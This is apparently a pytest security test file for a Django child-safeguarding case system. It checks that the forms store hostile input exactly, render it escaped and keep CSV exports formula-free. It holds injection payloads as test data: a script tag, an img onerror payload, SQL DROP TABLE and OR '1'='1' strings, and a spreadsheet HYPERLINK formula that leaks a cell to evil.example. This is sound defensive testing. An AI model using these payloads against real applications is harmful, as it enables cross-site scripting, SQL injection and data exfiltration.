"""Hostile text through the web forms, end to end (issue 4): HTML, SQL, Unicode tricks, a spreadsheet formula and
very long text typed into a form is either saved exactly or refused with an error on that field, and every page
that shows it back (the record's pages, the form re-shown with an error, the grab-pack, the network and risk
pages, shares, the emergency access review list, the auditor's trail and the subject access export) shows it
escaped, never as markup; a CSV export holds no live formula; and a value kept encrypted at rest is not in its
database column as plain text.

FORM_CASES says, for each form, how to fill it in validly, where the saved value is read back and which pages
(as which user) show it; at least one of them must show the value, so the escaping check is not vacuous.
`test_every_free_text_field_is_covered` fails for a text field of any form (tests/security/test_form_fields.py
finds them all) that is neither here nor in NOT_STORED (search boxes and sign-in fields, which are never saved and
are checked by test_search_boxes_echo_hostile_text_escaped). A base form never used on its own (the network's
_LinkForm) is covered through its subclasses, each of which must be here."""

import csv
import datetime as dt
import io
from collections.abc import Callable
from dataclasses import dataclass, field
from types import SimpleNamespace

import pytest
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape

from access.models import Role
from children.models import Child
from core.encryption import PREFIX, EncryptedTextField
from episodes.codes import FoundBy, RiskGrade
from episodes.models import EpisodeLogEntry, MissingEpisode
from interviews.models import ReturnInterview
from network import actions as network_actions
from network.codes import Confidence, LinkSource, PersonKind, PlaceKind
from network.models import ChildPersonLink, ChildPlaceLink, PersonOfConcern, Place
from notifications.codes import NotificationKind
from notifications.models import ContactDetails
from philomena.models import ProfileVersion
from risk.actions import make_referral
from risk.codes import AlertDecision, AlertKind, ReferralStatus, ReferralTo
from risk.models import Alert, Referral, Screening
from risk.triggers import evaluate_child
from sharing.actions import request_emergency_access, share_record
from sharing.codes import ChildConsent, LawfulBasis, ShareWhat
from sharing.models import EmergencyAccess, Share
from tests.factories import EpisodeFactory, UserFactory
from tests.risk.test_pages import screening_answers
from tests.security.test_form_fields import TEXT_FIELDS
from tests.web.helpers import date_time_boxes, minute
from tests.web.test_child_add import answers as child_answers
from tests.web.test_episode_pages import return_answers
from tests.web.test_interview_pages import accept, interview_answers, offer_answers
from tests.web.test_report_missing import answers as report_answers

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "img": '"><img src=x onerror=alert(1)>',
    "drop": "'; DROP TABLE children_child; --",
    "or": "' OR '1'='1",
    "unicode": "\u202egnp.exe\u202c \u2066isolated\u2069 \U0001f600 e\u0301",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "long": "y" * 20_000,
}
RAW_MARKUP = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@dataclass(frozen=True)
class Shown:
    """A page or file that shows the saved value: fetched as `user` (the form's user if None), by GET, or by POST
    with `post` (a search, or a file download). `user` is a name in world.users, or "role@agency" for a user
    with that role made in that agency of the world (such as "auditor@north")."""

    url: str
    user: str | None = None
    post: dict | None = None


@dataclass(frozen=True)
class FormCase:
    url: Callable  # (world, records) -> the form's address
    data: Callable  # (world, records) -> a valid submission
    saved: Callable  # (world, records, response) -> the saved record, or None if nothing saved
    shown: Callable  # (world, records, record) -> the addresses (or Shown) that show the saved value
    user: str = "coordinator"
    setup: Callable | None = None  # (world, records) -> None: bring the record to where the form applies
    per_field: dict = field(default_factory=dict)  # field -> answers that field needs alongside it
    columns: dict = field(default_factory=dict)  # field -> the model field it is saved in, where named otherwise
    read: dict = field(default_factory=dict)  # field -> (record) -> the text saved, where not simply a field


def _latest(model):
    return lambda world, records, response: model.objects.order_by("-pk").first()


def _episode_pages(world, records, episode):
    return [reverse("episodes:detail", args=[episode.pk]), reverse("children:detail", args=[episode.child_id])]


def _jordans_record(world) -> list[Shown]:
    """Jordan's record, the network around them, the auditor's trail (page and CSV) and the subject access export
    (the HTML file), as Northmoor's coordinator and auditor: where anything recorded about Jordan can show."""
    jordan = world.child.pk
    return [
        Shown(reverse("children:detail", args=[jordan]), user="coordinator"),
        Shown(reverse("network:child", args=[jordan]), user="coordinator"),
        Shown(reverse("governance:child-audit", args=[jordan]), user="auditor@north"),
        Shown(reverse("governance:child-audit", args=[jordan]), user="auditor@north", post={}),
        Shown(
            reverse("governance:subject-access-download", args=[jordan]), user="coordinator", post={"format": "html"}
        ),
    ]


def _link_answers(world, target: str, pk: int) -> dict:
    today = timezone.localdate()
    return {
        target: str(pk),
        "source": LinkSource.SEEN_WITH,
        "linked_on_0": str(today.day),
        "linked_on_1": str(today.month),
        "linked_on_2": str(today.year),
        "confidence": Confidence.PROBABLE,
        "episode": "",
        "interview": "",
        "notes": "Seen getting into a grey car",
    }


def _add_person_and_place(world, records) -> None:
    records.person = network_actions.add_person(
        acting_user=world.users.coordinator, kind=PersonKind.ADULT, display_name="Older male known as Dee"
    )
    records.place = network_actions.add_place(
        acting_user=world.users.coordinator, kind=PlaceKind.TAKEAWAY, name="Chicken Palace takeaway"
    )


def _link_jordan(world, records) -> None:
    _add_person_and_place(world, records)
    records.link = network_actions.link_child_to_person(
        acting_user=world.users.coordinator,
        child=world.child,
        person=records.person,
        source=LinkSource.SEEN_WITH,
        linked_on=timezone.localdate(),
        confidence=Confidence.CONFIRMED,
    )


def _raise_an_alert(world, records) -> None:
    """Jordan missing at high risk: evaluating them raises the high-risk alert."""
    EpisodeFactory(
        child=world.child,
        police_force=world.police_north,
        created_by=world.users.police,
        last_seen_at=timezone.now() - dt.timedelta(hours=2),
        risk_grade=RiskGrade.HIGH,
    )
    evaluate_child(world.child)
    records.alert = Alert.objects.get(child=world.child, kind=AlertKind.HIGH_RISK)


def _refer_jordan(world, records) -> None:
    records.referral = make_referral(
        world.child, to=ReferralTo.MASH, reason="Found in a trap house", acting_user=world.users.coordinator
    )


def _jordans_returned_episode(world, records) -> None:
    now = timezone.now()
    records.jordans_episode = EpisodeFactory(
        child=world.child,
        police_force=world.police_north,
        created_by=world.users.police,
        last_seen_at=now - dt.timedelta(days=4),
        returned_at=now - dt.timedelta(days=3),
        found_place="Home",
        found_by=FoundBy.POLICE,
    )


def _share_jordans_episode(world, records) -> None:
    _jordans_returned_episode(world, records)
    records.share = share_record(
        acting_user=world.users.coordinator,
        child=world.child,
        what=ShareWhat.EPISODE_SUMMARY,
        episode=records.jordans_episode,
        to_agency=world.health,
        lawful_basis=LawfulBasis.CHILDREN_ACT_S47,
        child_consent=ChildConsent.GIVEN,
        purpose="So the school nurse can follow up",
    )


def _share_pages(world, records, share) -> list[Shown]:
    return [
        Shown(reverse("sharing:detail", args=[share.pk])),
        Shown(reverse("sharing:detail", args=[share.pk]), user="health"),
        *_jordans_record(world),
    ]


def _police_ask_for_emergency_access(world, records) -> None:
    records.access = request_emergency_access(
        acting_user=world.users.police_south, child_id=world.child.pk, reason="Jordan was found alone at 2am"
    )


def _force_audit(world) -> list[Shown]:
    """The Southvale Police auditor's search of their officer's actions, on the page and as CSV."""
    search = {"username": world.users.police_south.username}
    return [
        Shown(reverse("governance:audit"), user="auditor@police_south", post=search),
        Shown(reverse("governance:audit"), user="auditor@police_south", post={**search, "export": "csv"}),
    ]


def _asked_for(access: EmergencyAccess) -> str:
    """The council child ID typed, out of what the request keeps: "council child ID <typed>, <council>"."""
    return access.asked_for.removeprefix("council child ID ").rsplit(", ", 1)[0]


FORM_CASES: dict[str, FormCase] = {
    "LogEntryForm": FormCase(
        url=lambda world, records: reverse("episodes:add-to-log", args=[records.episode.pk]),
        data=lambda world, records: {
            "kind": "sighting",
            **date_time_boxes("occurred_at", minute(timezone.now())),
            "note": "Seen at the bus station",
        },
        saved=_latest(EpisodeLogEntry),
        shown=lambda world, records, entry: [reverse("episodes:detail", args=[records.episode.pk])],
    ),
    "PreferencesForm": FormCase(
        url=lambda world, records: reverse("notifications:preferences"),
        data=lambda world, records: {
            **{kind.value: "email" for kind in NotificationKind},
            "mobile_number": "07700900982",
            "version": "1",
        },
        saved=lambda world, records, response: ContactDetails.objects.get(user=world.users.coordinator),
        shown=lambda world, records, details: [reverse("notifications:preferences")],
    ),
    "AddChildForm": FormCase(
        url=lambda world, records: reverse("children:add"),
        data=lambda world, records: child_answers(world),
        saved=lambda world, records, response: Child.objects.filter(la_child_id__isnull=False).order_by("-pk").first(),
        shown=lambda world, records, child: [reverse("children:detail", args=[child.pk]), reverse("children:search")],
    ),
    "ReportMissingForm": FormCase(
        url=lambda world, records: reverse("episodes:report", args=[world.child.pk]),
        data=lambda world, records: report_answers(world),
        saved=_latest(MissingEpisode),
        shown=_episode_pages,
    ),
    "EpisodeDetailsForm": FormCase(
        url=lambda world, records: reverse("episodes:edit", args=[records.episode.pk]),
        data=lambda world, records: {
            "episode_type": "M",
            "missing_from": "home",
            **date_time_boxes("last_seen_at", minute(records.episode.last_seen_at)),
            "last_seen_place": "Bus station",
            "reported_by": "Mother",
            "police_reference": "",
            "circumstances": "",
            "version": str(records.episode.version),
        },
        saved=lambda world, records, response: MissingEpisode.objects.get(pk=records.episode.pk),
        shown=_episode_pages,
    ),
    "ChangeRiskForm": FormCase(
        url=lambda world, records: reverse("episodes:change-risk", args=[records.episode.pk]),
        data=lambda world, records: {"grade": "high", "reason": "Seen with older males", "version": "1"},
        saved=lambda world, records, response: (
            MissingEpisode.objects.get(pk=records.episode.pk).risk_changes.order_by("-pk").first()
        ),
        shown=lambda world, records, change: [reverse("episodes:detail", args=[records.episode.pk])],
    ),
    "RecordReturnForm": FormCase(
        url=lambda world, records: reverse("episodes:record-return", args=[records.episode.pk]),
        data=lambda world, records: return_answers(),
        saved=lambda world, records, response: MissingEpisode.objects.get(pk=records.episode.pk),
        shown=_episode_pages,
    ),
    "PersonForm": FormCase(
        url=lambda world, records: reverse("network:person-add"),
        data=lambda world, records: {"kind": "adult", "display_name": "Dee"},
        saved=_latest(PersonOfConcern),
        shown=lambda world, records, person: [reverse("network:person", args=[person.pk]), reverse("network:persons")],
    ),
    "PlaceForm": FormCase(
        url=lambda world, records: reverse("network:place-add"),
        data=lambda world, records: {"kind": "takeaway", "name": "Chicken shop"},
        saved=_latest(Place),
        shown=lambda world, records, place: [reverse("network:place", args=[place.pk]), reverse("network:places")],
    ),
    "ProfileForm": FormCase(
        url=lambda world, records: reverse("philomena:edit", args=[world.child.pk]),
        data=lambda world, records: {"height": "150cm"},
        saved=_latest(ProfileVersion),
        shown=lambda world, records, version: [
            reverse("philomena:profile", args=[world.child.pk]),
            reverse("philomena:grab-pack", args=[world.child.pk]),
        ],
    ),
    "OfferForm": FormCase(
        url=lambda world, records: reverse("interviews:offer", args=[records.case.interview.pk]),
        data=lambda world, records: offer_answers(records.case),
        saved=lambda world, records, response: ReturnInterview.objects.get(pk=records.case.interview.pk),
        shown=lambda world, records, interview: [reverse("interviews:detail", args=[interview.pk])],
        per_field={
            "not_offered_reason": {
                "outcome": "not_offered",
                "offered_by": "",
                **dict.fromkeys(("offered_at_0", "offered_at_1", "offered_at_2", "offered_at_3"), ""),
            }
        },
    ),
    "RecordInterviewForm": FormCase(
        url=lambda world, records: reverse("interviews:record", args=[records.case.interview.pk]),
        data=lambda world, records: interview_answers(records.case),
        saved=lambda world, records, response: ReturnInterview.objects.get(pk=records.case.interview.pk),
        shown=lambda world, records, interview: [reverse("interviews:detail", args=[interview.pk])],
        setup=lambda world, records: accept(records.case),
    ),
    "ScreeningForm": FormCase(
        url=lambda world, records: reverse("risk:screen", args=[world.child.pk]),
        data=lambda world, records: screening_answers(),
        saved=_latest(Screening),
        shown=lambda world, records, screening: [reverse("risk:screening", args=[screening.pk])],
    ),
    "PersonLinkForm": FormCase(
        url=lambda world, records: reverse("network:link-person", args=[world.child.pk]),
        data=lambda world, records: _link_answers(world, "person", records.person.pk),
        saved=_latest(ChildPersonLink),
        shown=lambda world, records, link: _jordans_record(world),
        setup=_add_person_and_place,
    ),
    "PlaceLinkForm": FormCase(
        url=lambda world, records: reverse("network:link-place", args=[world.child.pk]),
        data=lambda world, records: _link_answers(world, "place", records.place.pk),
        saved=_latest(ChildPlaceLink),
        shown=lambda world, records, link: _jordans_record(world),
        setup=_add_person_and_place,
    ),
    "EndLinkForm": FormCase(
        url=lambda world, records: reverse("network:end-person-link", args=[records.link.pk]),
        data=lambda world, records: {
            "reason": "Recorded against the wrong child",
            "version": str(records.link.version),
        },
        saved=lambda world, records, response: ChildPersonLink.objects.get(pk=records.link.pk),
        shown=lambda world, records, link: _jordans_record(world),
        setup=_link_jordan,
        columns={"reason": "end_reason"},
    ),
    "AcknowledgeAlertForm": FormCase(
        url=lambda world, records: reverse("risk:acknowledge", args=[records.alert.pk]),
        data=lambda world, records: {"decision": AlertDecision.OTHER, "reason": "Strategy meeting on Monday"},
        saved=lambda world, records, response: Alert.objects.get(pk=records.alert.pk),
        shown=lambda world, records, alert: [
            Shown(reverse("risk:acknowledge", args=[alert.pk])),
            Shown(reverse("risk:alerts")),
            *_jordans_record(world),
        ],
        setup=_raise_an_alert,
        columns={"reason": "decision_reason"},
    ),
    "ReferralForm": FormCase(
        url=lambda world, records: reverse("risk:refer", args=[world.child.pk]),
        data=lambda world, records: {"to": ReferralTo.EXPLOITATION_TEAM, "reason": "Seen with older males"},
        saved=_latest(Referral),
        shown=lambda world, records, referral: [
            Shown(reverse("risk:referral", args=[referral.pk])),
            Shown(reverse("risk:referral", args=[referral.pk]), user="police"),
            *_jordans_record(world),
        ],
    ),
    "ReferralStatusForm": FormCase(
        url=lambda world, records: reverse("risk:referral", args=[records.referral.pk]),
        data=lambda world, records: {"status": ReferralStatus.DECLINED, "note": "Threshold not met", "version": "1"},
        saved=lambda world, records, response: records.referral.status_changes.order_by("-pk").first(),
        shown=lambda world, records, change: [
            Shown(reverse("risk:referral", args=[records.referral.pk])),
            *_jordans_record(world),
        ],
        setup=_refer_jordan,
        user="manager",
    ),
    "ShareForm": FormCase(
        url=lambda world, records: reverse("sharing:share", args=[world.child.pk]),
        data=lambda world, records: {
            "what": f"{ShareWhat.EPISODE_SUMMARY}:{records.jordans_episode.pk}",
            "recipient": f"agency:{world.health.pk}",
            "lawful_basis": LawfulBasis.CHILDREN_ACT_S47,
            "lawful_basis_other": "",
            "child_consent": ChildConsent.NOT_SOUGHT,
            "child_consent_reason": "Asking would put them at risk",
            "purpose": "So the school nurse can follow up",
        },
        saved=_latest(Share),
        shown=_share_pages,
        setup=_jordans_returned_episode,
        per_field={"lawful_basis_other": {"lawful_basis": LawfulBasis.OTHER}},
    ),
    "WithdrawShareForm": FormCase(
        url=lambda world, records: reverse("sharing:withdraw", args=[records.share.pk]),
        data=lambda world, records: {"reason": "Shared in error", "version": str(records.share.version)},
        saved=lambda world, records, response: Share.objects.get(pk=records.share.pk),
        shown=lambda world, records, share: [
            Shown(reverse("sharing:detail", args=[share.pk])),
            *_jordans_record(world),
        ],
        setup=_share_jordans_episode,
        columns={"reason": "withdrawal_reason"},
    ),
    "EmergencyAccessForm": FormCase(
        url=lambda world, records: reverse("sharing:break-glass"),
        data=lambda world, records: {
            "child_id": "",
            "la_child_id": world.child.la_child_id,
            "council": str(world.north.pk),
            "reason": "Jordan was found alone at the bus station at 2am",
        },
        saved=_latest(EmergencyAccess),
        # What was typed shows where no child matched it; the force's administrator reviews its officers' uses.
        shown=lambda world, records, access: [
            Shown(reverse("sharing:break-glass-result", args=[access.pk])),
            Shown(reverse("sharing:break-glass-review"), user="administrator@police_south"),
            Shown(reverse("sharing:break-glass-mark-reviewed", args=[access.pk]), user="administrator@police_south"),
            *_force_audit(world),
            *_jordans_record(world),
        ],
        user="police_south",
        read={"la_child_id": _asked_for},
    ),
    "ReviewEmergencyAccessForm": FormCase(
        url=lambda world, records: reverse("sharing:break-glass-mark-reviewed", args=[records.access.pk]),
        data=lambda world, records: {"note": "Checked with the ward: justified"},
        saved=lambda world, records, response: EmergencyAccess.objects.get(pk=records.access.pk),
        shown=lambda world, records, access: [Shown(reverse("sharing:break-glass-review")), *_jordans_record(world)],
        setup=_police_ask_for_emergency_access,
        columns={"note": "review_note"},
    ),
}

# Never saved: searched for, or used to sign in. Their echo is checked by test_search_boxes_echo_hostile_text_escaped.
NOT_STORED = {
    ("ChildSearchForm", "q"),
    ("SearchForm", "q"),
    ("AuditSearchForm", "child"),
    ("AuditSearchForm", "username"),
    ("CodeForm", "code"),
    ("SignInForm", "username"),
    ("EnrolmentCodeForm", "code"),  # compared with a keyed hash, never kept
    ("OTPAuthenticationForm", "username"),  # django-otp's sign-in forms, found in accounts.forms' namespace
    ("OTPAuthenticationForm", "otp_challenge"),
    ("OTPAuthenticationForm", "otp_device"),
    ("OTPAuthenticationForm", "otp_token"),
    ("OTPTokenForm", "otp_challenge"),
    ("OTPTokenForm", "otp_token"),
    ("ReportForm", "kind"),  # which report to produce: checked against the two kinds
}


def _covered(form: type, name: str) -> bool:
    """Driven here itself, or a base form (such as _LinkForm) never used on its own, whose every subclass
    with the field is driven here."""
    if form.__name__ in FORM_CASES:
        return True
    subclasses = [
        sub for sub, sub_name, _ in TEXT_FIELDS if sub_name == name and sub is not form and issubclass(sub, form)
    ]
    return bool(subclasses) and all(sub.__name__ in FORM_CASES for sub in subclasses)


def test_every_free_text_field_is_covered():
    uncovered = sorted(
        f"{form.__name__}.{name}"
        for form, name, _ in TEXT_FIELDS
        if not _covered(form, name) and (form.__name__, name) not in NOT_STORED
    )
    assert not uncovered, f"free-text form fields with no injection case: {uncovered}"


CASES = [
    pytest.param(form.__name__, name, id=f"{form.__name__}.{name}")
    for form, name, _ in TEXT_FIELDS
    if form.__name__ in FORM_CASES
]


@pytest.fixture
def records(world, case):
    """An open episode (Riley, placed in Northmoor) and Jordan's returned episode with an assigned interview."""
    episode = EpisodeFactory(child=world.placed_child, police_force=world.police_north, created_by=world.users.police)
    return SimpleNamespace(episode=episode, case=case)


def _body(response) -> str:
    return (b"".join(response) if response.streaming else response.content).decode("utf-8", errors="replace")


def _assert_escaped(html: str, where: str) -> None:
    for markup in RAW_MARKUP:
        assert markup not in html, f"raw {markup!r} in {where}"


def _assert_no_live_formula(text: str, where: str) -> None:
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"a live formula in {where}: {cell[:80]!r}"


def _user(world, records, name: str):
    """A user of the world by name, or "role@agency": one with that role in that agency, made once per test."""
    if "@" not in name:
        return getattr(world.users, name)
    made = records.__dict__.setdefault("made_users", {})
    if name not in made:
        role, agency = name.split("@")
        made[name] = UserFactory(username=name.replace("@", "."), agency=getattr(world, agency), roles=[Role(role)])
    return made[name]


def _assert_encrypted_at_rest(record, column: str, value: str) -> None:
    """An encrypted field's column holds a token, never the text typed."""
    model_field = record._meta.get_field(column)
    if not isinstance(model_field, EncryptedTextField):
        return
    table, db_column = connection.ops.quote_name(record._meta.db_table), connection.ops.quote_name(model_field.column)
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT {db_column} FROM {table} WHERE id = %s", [record.pk])  # noqa: S608 - names from models
        (raw,) = cursor.fetchone()
    assert raw.startswith(PREFIX) and value.strip() not in raw, f"{column} is not encrypted at rest"


@pytest.mark.parametrize(("form_name", "field"), CASES)
@pytest.mark.parametrize("kind", list(HOSTILE))
def test_hostile_text_is_saved_exactly_and_shown_escaped(world, records, settings, tmp_path, form_name, field, kind):
    settings.HOMEWARD_PRIVATE_MEDIA_ROOT = tmp_path
    case = FORM_CASES[form_name]
    value = HOSTILE[kind]
    client = Client()
    client.force_login(getattr(world.users, case.user))
    if case.setup:
        case.setup(world, records)
    data = {**case.data(world, records), **case.per_field.get(field, {}), field: value}
    response = client.post(case.url(world, records), data)
    if response.status_code == 200:
        # Refused: the error is on this field, and the form shows the typed value back escaped.
        form = response.context["form"]
        assert field in form.errors, f"{form_name}.{field} ({kind}) refused without a field error: {form.errors}"
        _assert_escaped(_body(response), f"{form_name} re-shown")
        return
    assert response.status_code == 302, f"{form_name}.{field} ({kind}): {response.status_code}"
    record = case.saved(world, records, response)
    column = case.columns.get(field, field)
    stored = case.read[field](record) if field in case.read else getattr(record, column)
    assert stored == value or stored == value.strip().upper() or stored == value.strip(), (form_name, field, kind)
    if field not in case.read:
        _assert_encrypted_at_rest(record, column, value)
    shown_somewhere = False
    for entry in case.shown(world, records, record):
        entry = entry if isinstance(entry, Shown) else Shown(entry)
        viewer = Client()
        viewer.force_login(_user(world, records, entry.user or case.user))
        # A posted search is answered with a redirect to its results page (Post/Redirect/Get): follow it.
        page = viewer.get(entry.url) if entry.post is None else viewer.post(entry.url, entry.post, follow=True)
        assert page.status_code == 200, (entry, page.status_code)
        body = _body(page)
        if page["Content-Type"].startswith("text/html"):
            _assert_escaped(body, entry.url)
            shown_somewhere |= escape(stored) in body
        elif page["Content-Type"].startswith("text/csv"):
            _assert_no_live_formula(body, entry.url)
    if kind != "long":  # a page may shorten very long text
        assert shown_somewhere, f"{form_name}.{field} ({kind}) is shown escaped on none of its pages"


SEARCHES = [
    ("children:search", "q", "post"),
    ("network:persons", "q", "post"),
    ("network:places", "q", "post"),
    ("governance:audit", "username", "post"),
    ("governance:audit", "child", "post"),
]


@pytest.mark.parametrize(("name", "field", "method"), SEARCHES)
@pytest.mark.parametrize("kind", ["script", "img", "drop", "or", "unicode"])
def test_search_boxes_echo_hostile_text_escaped(world, name, field, method, kind):
    from access.models import Role
    from tests.factories import UserFactory

    user = (
        UserFactory(username="auditor.sec", agency=world.north, roles=[Role.AUDITOR])
        if name.startswith("governance")
        else world.users.coordinator
    )
    client = Client()
    client.force_login(user)
    # A valid search is answered with a redirect to its results page (Post/Redirect/Get): follow it.
    response = getattr(client, method)(reverse(name), {field: HOSTILE[kind]}, follow=True)
    assert response.status_code in {200, 400}, (name, response.status_code)
    _assert_escaped(_body(response), name)
    nul = getattr(client, method)(reverse(name), {field: "a\x00b"})
    assert nul.status_code in {200, 400}, (name, "NUL", nul.status_code)
